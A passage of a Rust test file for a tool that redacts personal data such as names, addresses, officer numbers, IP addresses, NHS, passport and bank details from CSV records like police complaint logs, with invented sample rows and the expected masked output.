    let csv = b"Date,Details\n01/02/2023,\"Complainant Mrs Jane Okafor of 12 Elm Road, Lisburn BT28 1AA says PC Morgan was rude\"\n04/02/2023,Caller lives at 3a Church Lane and reported noise\n07/02/2023,Officers from 12 Florence Hill station attended\n08/02/2023,Mr Tom Walsh reported his car AB12 CDE was damaged\n09/02/2023,Vehicle XY21ZZT stopped; Serial 4521\n10/02/2023,Victim Jane Okafor (aged 34) was assaulted\n11/02/2023,A 34-year-old woman was assaulted\n12/02/2023,\"On 22/02/2023 the suspect, Aaron Lee (22), was arrested\"\n";
    let report = check_bytes("complaints.csv", csv, &Options::default());
    let out = redact_with(csv, &Policy::default_for(&report), &report, 7);
    assert_eq!(
        lines(&out),
        [
            "Date,Details",
            "01/02/2023,Complainant [name removed] of [address removed] says [name removed] was rude",
            "04/02/2023,Caller lives at [address removed] and reported noise",
            "07/02/2023,Officers from 12 Florence Hill station attended",
            "08/02/2023,[name removed] reported his car [registration removed] was damaged",
            "09/02/2023,Vehicle XY21ZZT stopped; Serial 4521",
            "10/02/2023,Victim [name removed] ([age removed]) was assaulted",
            "11/02/2023,A 34-year-old woman was assaulted",
            "12/02/2023,\"On 22/02/2023 the suspect, [name removed] [age removed], was arrested\""
        ]
    );
    let after = check_bytes("complaints-safe.csv", &out, &Options::default());
    assert!(after.rows.is_empty(), "{:?}", after.rows);
}

/// An officer's form (`Name,John Morgan,Rank,Inspector`): the values its
/// labels find go (name, collar number, date of birth), the labels stay,
/// and the copy checks clean. Before, the rank and station beside the name
/// were read as names and the date of birth as a staff number.
#[cfg_attr(target_arch = "wasm32", wasm_bindgen_test::wasm_bindgen_test)]
#[cfg_attr(not(target_arch = "wasm32"), test)]
fn a_form_loses_the_values_its_labels_find() {
    let csv = b"Surname,MORGAN,Rank,Inspector\nInitial,J,Station,Lisburn\nCollar number,4521,Date of birth,12/03/1980\n";
    let report = check_bytes("form.csv", csv, &Options::default());
    let out = redact_with(csv, &Policy::default_for(&report), &report, 7);
    assert_eq!(
        lines(&out),
        [
            "Surname,[removed],Rank,Inspector",
            "Initial,[removed],Station,Lisburn",
            "Collar number,[removed],Date of birth,[removed]"
        ]
    );
    let after = check_bytes("form-safe.csv", &out, &Options::default());
    assert!(after.rows.is_empty(), "{:?}", after.rows);
}

/// Three officers on their side, one surname a header word (WARD): a third
/// of the header's values being header words made it a header, so the copy
/// masked the labels, kept every surname and checked clean.
#[cfg_attr(target_arch = "wasm32", wasm_bindgen_test::wasm_bindgen_test)]
#[cfg_attr(not(target_arch = "wasm32"), test)]
fn three_officers_on_their_side_lose_their_surnames() {
    let csv = b"Surname,MORGAN,PATEL,WARD\nInitial,J,K,S\nRank,PC,Sgt,Inspector\nStation,Lisburn,Omagh,Antrim\n";
    let report = check_bytes("side.csv", csv, &Options::default());
    let out = redact_with(csv, &Policy::default_for(&report), &report, 7);
    assert_eq!(
        lines(&out),
        [
            "Surname,[removed],[removed],[removed]",
            "Initial,[removed],[removed],[removed]",
            "Rank,PC,Sgt,Inspector",
            "Station,Lisburn,Omagh,Antrim"
        ]
    );
}

/// A pivot of counts pasted right of its source data, its header lower
/// down: it is a table of its own, so its small counts are suppressed in
/// the safe copy, on the same rows as the officers whose names are masked.
/// (Before, its cells rode along with the officers' rows, and a reason from
/// one table could not be found in the row's other.)
#[cfg_attr(target_arch = "wasm32", wasm_bindgen_test::wasm_bindgen_test)]
#[cfg_attr(not(target_arch = "wasm32"), test)]
fn a_pivot_beside_its_data_has_its_small_counts_suppressed() {
    let csv = b"Surname,Initial,Rank,,,\nMORGAN,J,PC,,,\nPATEL,P,Sgt,,Rank,Count of Surname\nJONES,K,PC,,PC,2\nSMITH,A,Insp,,Sgt,1\nBROWN,B,PC,,Insp,1\n";
    let report = check_bytes("side.csv", csv, &Options::default());
    let out = redact_with(csv, &Policy::default_for(&report), &report, 5);
    assert_eq!(
        lines(&out),
        [
            "Surname,Initial,Rank,,,",
            "[name removed],[name removed],PC,,,",
            "[name removed],[name removed],Sgt,,Rank,Count of Surname",
            "[name removed],[name removed],PC,,PC,*",
            "[name removed],[name removed],Insp,,Sgt,*",
            "[name removed],[name removed],PC,,Insp,*"
        ]
    );
    let after = check_bytes("side-safe.csv", &out, &Options::default());
    assert!(
        after
            .rows
            .iter()
            .all(|r| !matches!(r.kind, Kind::Staff | Kind::Person | Kind::SmallCount)),
        "{:?}",
        after.rows
    );
}

/// A web log's IP addresses go from the safe copy, which then checks
/// clean; so does one in a column with no header rule.
#[cfg_attr(target_arch = "wasm32", wasm_bindgen_test::wasm_bindgen_test)]
#[cfg_attr(not(target_arch = "wasm32"), test)]
fn ip_addresses_are_removed() {
    let csv = b"Date,IP address,Page\n01/03/2023,203.0.113.7,/contact\n01/03/2023,2001:db8::7,/foi\n02/03/2023,192.168.1.20,/intranet\n";
    default_copy_is(
        csv,
        &[2, 3],
        &[
            "Date,IP address,Page",
            "01/03/2023,[IP address removed],/contact",
            "01/03/2023,[IP address removed],/foi",
            "02/03/2023,[IP address removed],/intranet",
        ],
    );
}

/// Collar numbers under `Officer` go from the safe copy, which then checks
/// clean.
#[cfg_attr(target_arch = "wasm32", wasm_bindgen_test::wasm_bindgen_test)]
#[cfg_attr(not(target_arch = "wasm32"), test)]
fn collar_numbers_under_officer_are_removed() {
    let csv = b"Officer,Date,Incident\n4521,01/03/2023,Theft\n3310,02/03/2023,Assault\n";
    default_copy_is(
        csv,
        &[2, 3],
        &[
            "Officer,Date,Incident",
            "[number removed],01/03/2023,Theft",
            "[number removed],02/03/2023,Assault",
        ],
    );
}

/// NHS numbers go from the safe copy, in their column and in free text,
/// and the copy then checks clean.
#[cfg_attr(target_arch = "wasm32", wasm_bindgen_test::wasm_bindgen_test)]
#[cfg_attr(not(target_arch = "wasm32"), test)]
fn nhs_numbers_are_removed() {
    let csv = b"NHS number,Clinic,Notes\n999 000 0018,Fracture,Seen\n9990000026,Eye,\"Was 999 000 0034, merged\"\n";
    default_copy_is(
        csv,
        &[2, 3],
        &[
            "NHS number,Clinic,Notes",
            "[NHS number removed],Fracture,Seen",
            "[NHS number removed],Eye,\"Was [NHS number removed], merged\"",
        ],
    );
}

/// Passport numbers go from the safe copy, in their column and in free
/// text, and the copy then checks clean.
#[cfg_attr(target_arch = "wasm32", wasm_bindgen_test::wasm_bindgen_test)]
#[cfg_attr(not(target_arch = "wasm32"), test)]
fn passport_numbers_are_removed() {
    let csv = b"Passport number,Date,Notes\n123456789,01/03/2023,Seen\nPA1234567,01/03/2023,\"Old passport 523456780, expired\"\n";
    default_copy_is(
        csv,
        &[2, 3],
        &[
            "Passport number,Date,Notes",
            "[passport number removed],01/03/2023,Seen",
            "[passport number removed],01/03/2023,\"Old passport [passport number removed], expired\"",
        ],
    );
}

/// Bank details go from the safe copy, in their columns and in free text,
/// and the copy then checks clean.
#[cfg_attr(target_arch = "wasm32", wasm_bindgen_test::wasm_bindgen_test)]
#[cfg_attr(not(target_arch = "wasm32"), test)]
fn bank_details_are_removed() {
    let csv = b"Date,Sort code,Bank account number,Notes\n01/03/2023,12-34-56,12345678,Paid\n01/03/2023,20-45-77,87654321,\"Was sort code 11-22-33 account 44556677\"\n";
    default_copy_is(
        csv,
        &[2, 3],
        &[
            "Date,Sort code,Bank account number,Notes",
            "01/03/2023,[bank details removed],[bank details removed],Paid",
            "01/03/2023,[bank details removed],[bank details removed],Was sort code [bank details removed] account [bank details removed]",
        ],
    );
}

/// An IP address in a note goes with the name beside it, and on its own.
#[cfg_attr(target_arch = "wasm32", wasm_bindgen_test::wasm_bindgen_test)]
#[cfg_attr(not(target_arch = "wasm32"), test)]
fn ip_addresses_in_free_text_are_removed() {
    let csv = b"Date,Notes\n01/03/2023,Mrs Jane Okafor complained from IP address 198.51.100.9\n02/03/2023,Abusive email sent from IP 203.0.113.7.\n03/03/2023,See section 1.2.3.4\n";
    default_copy_is(
        csv,
        &[2, 3],
        &[
            "Date,Notes",
            "01/03/2023,[name removed] complained from IP address [IP address removed]",
            "02/03/2023,Abusive email sent from IP [IP address removed].",
            "03/03/2023,See section 1.2.3.4",
        ],
    );
}

/// Driving licence numbers go from the safe copy, in their column and in
/// free text.
#[cfg_attr(target_arch = "wasm32", wasm_bindgen_test::wasm_bindgen_test)]
#[cfg_attr(not(target_arch = "wasm32"), test)]
fn driving_licence_numbers_are_removed() {
    let csv = b"Date,Licence number,Notes\n01/03/2023,MORGA753116SM9IJ,\n03/03/2023,,Licence WARD9662034S99AB 35 seen\n";
    default_copy_is(
        csv,
        &[2, 3],
        &[
            "Date,Licence number,Notes",
            "01/03/2023,[licence number removed],",
            "03/03/2023,,Licence [licence number removed] 35 seen",
        ],
    );
}

/// A name said again and again in one cell is one reason (tests/detect.rs),
/// and every copy of it goes from the safe copy.
#[cfg_attr(target_arch = "wasm32", wasm_bindgen_test::wasm_bindgen_test)]
#[cfg_attr(not(target_arch = "wasm32"), test)]
fn a_name_said_again_in_its_cell_goes_every_time() {
    let csv = b"Ref,Notes\n1,PC Kowalski arrived. PC Kowalski left. Sgt Okafor stayed; PC Kowalski came back\n";
    default_copy_is(
        csv,
        &[2],
        &[
            "Ref,Notes",
            "1,[name removed] arrived. [name removed] left. [name removed] stayed; [name removed] came back",
        ],
    );
}

/// Officers listed one after another each lose their rank and number: the
/// second `PC` was read as the first officer's surname, and `5678` stayed.
#[cfg_attr(target_arch = "wasm32", wasm_bindgen_test::wasm_bindgen_test)]
#[cfg_attr(not(target_arch = "wasm32"), test)]
fn officers_listed_one_after_another_all_go() {
    let csv = b"Ref,Notes\n1,\"Attending: PC 1234, PC 5678 and Sgt 991\"\n2,PC 1234; PC 5678\n3,\"PC 1234, 5678 and 9012 attended\"\n4,PCs 1234 & 5678 and PCs Morgan and Patel\n";
    default_copy_is(
        csv,
        &[2, 3, 4, 5],
        &[
            "Ref,Notes",
            "1,\"Attending: [number removed], [number removed] and [number removed]\"",
            "2,[number removed]; [number removed]",
            "3,\"[number removed], [number removed] and [number removed] attended\"",
            "4,[number removed] & [number removed] and [name removed] and [name removed]",
        ],
    );
}

/// A collar or staff number in free text goes with the words that say what it is.
#[cfg_attr(target_arch = "wasm32", wasm_bindgen_test::wasm_bindgen_test)]
#[cfg_attr(not(target_arch = "wasm32"), test)]
fn staff_numbers_after_their_cue_go() {
    let csv = b"Ref,Notes\n1,Officer with collar number 1234 attended\n2,Warrant card 123456 was shown\n3,Officer 12 said the door was open\n";
    default_copy_is(
        csv,
        &[2, 3],
        &[
            "Ref,Notes",
            "1,Officer with [number removed] attended",
            "2,[number removed] was shown",
            "3,Officer 12 said the door was open",
        ],
    );
}

/// A date of birth in brackets after a name goes too: the name's match ran
/// into `(DOB` and the date stayed in the safe copy.
#[cfg_attr(target_arch = "wasm32", wasm_bindgen_test::wasm_bindgen_test)]
#[cfg_attr(not(target_arch = "wasm32"), test)]
fn a_date_of_birth_in_brackets_after_a_name_goes() {
    let csv = b"Ref,Notes\n1,Victim John Smith (DOB 01/02/1980) reported the theft\n";
    default_copy_is(
        csv,
        &[2],
        &[
            "Ref,Notes",
            "1,Victim [name removed] ([date of birth removed]) reported the theft",
        ],
    );
}

/// A name written surname first (`MORGAN, Siobhan`) goes whole.
#[cfg_attr(target_arch = "wasm32", wasm_bindgen_test::wasm_bindgen_test)]
#[cfg_attr(not(target_arch = "wasm32"), test)]
fn a_name_written_surname_first_goes() {
    let csv = b"Ref,Notes\n1,\"Arrested: MORGAN, Siobhan and PATEL, Ravi\"\n";
    default_copy_is(
        csv,
        &[2],
        &["Ref,Notes", "1,Arrested: [name removed] and [name removed]"],
    );
}

/// Names with an initial or an Irish particle inside, a forename that is
/// also a word, and a name before `and` go whole; a firm's name stays.
#[cfg_attr(target_arch = "wasm32", wasm_bindgen_test::wasm_bindgen_test)]
#[cfg_attr(not(target_arch = "wasm32"), test)]
fn names_with_particles_and_before_and_go() {
    let csv = "Ref,Notes\n1,Ciarán Ó Súilleabháin gave a statement\n2,Sarah Jones and her son attended\n3,her husband Mark Jones was there\n4,John A Smith called\n5,invoice from Sarah Jones and Partners\n";
    default_copy_is(
        csv.as_bytes(),
        &[2, 3, 4, 5],
        &[
            "Ref,Notes",
            "1,[name removed] gave a statement",
            "2,[name removed] and her son attended",
            "3,her husband [name removed] was there",
            "4,[name removed] called",
            "5,invoice from Sarah Jones and Partners",
        ],
    );
}

/// An officer's own number right after their name goes too (`(ID 4521)`
/// kept the number), and so does a possessive name before a word in lower
/// case (`Inspector Dunne's team`).
#[cfg_attr(target_arch = "wasm32", wasm_bindgen_test::wasm_bindgen_test)]
#[cfg_attr(not(target_arch = "wasm32"), test)]
fn an_officers_id_and_possessive_name_go() {
    let csv = b"Ref,Notes\n1,Constable Morgan (ID 4521) took the statement\n2,Inspector Dunne's team attended\n";
    default_copy_is(
        csv,
        &[2, 3],
        &[
            "Ref,Notes",
            "1,[name removed] ([number removed]) took the statement",
            "2,[name removed] team attended",
        ],
    );
}

/// A column of user names made from names goes whole from an audit log
/// (the default copy removes an identifying column's values); a column of
/// outcomes under `Login` is no column of names and stays.
#[cfg_attr(target_arch = "wasm32", wasm_bindgen_test::wasm_bindgen_test)]
#[cfg_attr(not(target_arch = "wasm32"), test)]
fn user_names_made_from_names_go() {
    let csv = b"Date,Username,Login\n01/02/2023,jsmith01,Success\n02/02/2023,admin,Failed\n03/02/2023,mary.okafor,Success\n04/02/2023,kbyrne,Success\n05/02/2023,pdunne,Failed\n";
    default_copy_is(
        csv,
        &[2, 4, 5, 6],
        &[
            "Date,Username,Login",
            "01/02/2023,[name removed],Success",
            "02/02/2023,[name removed],Failed",
            "03/02/2023,[name removed],Success",
            "04/02/2023,[name removed],Success",
            "05/02/2023,[name removed],Failed",
        ],
    );
}

/// Names as police notes write them go whole: surname in capitals, an
/// initial and a surname, a name typed in lower case after a cue.
#[cfg_attr(target_arch = "wasm32", wasm_bindgen_test::wasm_bindgen_test)]
#[cfg_attr(not(target_arch = "wasm32"), test)]
fn names_as_police_notes_write_them_go() {
    let csv = b"Ref,Notes\n1,John SMITH attended\n2,J. SMITH was arrested\n3,complainant john smith called\n4,A Young man was seen\n";
    default_copy_is(
        csv,
        &[2, 3, 4],
        &[
            "Ref,Notes",
            "1,[name removed] attended",
            "2,[name removed] was arrested",
            "3,complainant [name removed] called",
            "4,A Young man was seen",
        ],
    );
}

/// A social media handle made from a name goes; an organisation's stays.
#[cfg_attr(target_arch = "wasm32", wasm_bindgen_test::wasm_bindgen_test)]
#[cfg_attr(not(target_arch = "wasm32"), test)]
fn a_personal_social_media_handle_goes() {
    let csv = b"Ref,Notes\n1,Abuse sent from @jsmith_88 to @PSNIBelfast\n";
    default_copy_is(
        csv,
        &[2],
        &[
            "Ref,Notes",
            "1,Abuse sent from [handle removed] to @PSNIBelfast",
        ],
    );
}

/// A date of birth in a note goes from the copy even when nothing else in
/// its row is personal.
#[cfg_attr(target_arch = "wasm32", wasm_bindgen_test::wasm_bindgen_test)]
#[cfg_attr(not(target_arch = "wasm32"), test)]
fn a_date_of_birth_alone_in_a_note_goes() {
    let csv = b"Ref,Notes\n1,Born 03/04/1985 in Derry\n2,Seen on 03/04/2023\n";
    default_copy_is(
        csv,
        &[2],
        &[
            "Ref,Notes",
            "1,[date of birth removed] in Derry",
            "2,Seen on 03/04/2023",
        ],
    );
}

/// Registrations in a list of penalties go from the copy; the rest stays.
#[cfg_attr(target_arch = "wasm32", wasm_bindgen_test::wasm_bindgen_test)]
#[cfg_attr(not(target_arch = "wasm32"), test)]
fn registrations_in_a_list_of_penalties_go() {
    let csv = b"Date,Registration,Recorded speed,Fine\n2023-01-04,KL71 LPV,52,100\n2023-01-06,n/a,60,100\n";
    default_copy_is(
        csv,
        &[2],
        &[
            "Date,Registration,Recorded speed,Fine",
            "2023-01-04,[registration removed],52,100",
            "2023-01-06,n/a,60,100",
        ],
    );
}

/// A person among the suppliers (a sole trader) goes from the safe copy,
/// where they are; the companies, and the column, stay.
#[cfg_attr(target_arch = "wasm32", wasm_bindgen_test::wasm_bindgen_test)]
#[cfg_attr(not(target_arch = "wasm32"), test)]
fn a_sole_trader_among_suppliers_is_masked_where_they_are() {
    let csv = b"Supplier,Amount\nAcme Holdings Ltd,1200\nSiobhan Kelly,640\nBelfast City Council,9000\nMurphy Brothers,800\nMr D Price,510\nGreen Leaf Cafe,700\n";
    default_copy_is(
        csv,
        &[3, 6],
        &[
            "Supplier,Amount",
            "Acme Holdings Ltd,1200",
            "[name removed],640",
            "Belfast City Council,9000",
            "Murphy Brothers,800",
            "[name removed],510",
            "Green Leaf Cafe,700",
        ],
    );
}

/// A couple named by their titles go whole from a note: the copy kept
/// `D Price` when only `Mr & Mrs` was taken for the name.
#[cfg_attr(target_arch = "wasm32", wasm_bindgen_test::wasm_bindgen_test)]
#[cfg_attr(not(target_arch = "wasm32"), test)]
fn a_couple_named_by_their_titles_go_whole() {
    let csv = b"Application,Notes\nLA05/2023/0012/F,Letter sent to Mr & Mrs D Price about the extension.\n";
    default_copy_is(
        csv,
        &[2],
        &[
            "Application,Notes",
            "LA05/2023/0012/F,Letter sent to [name removed] about the extension.",
        ],
    );
}
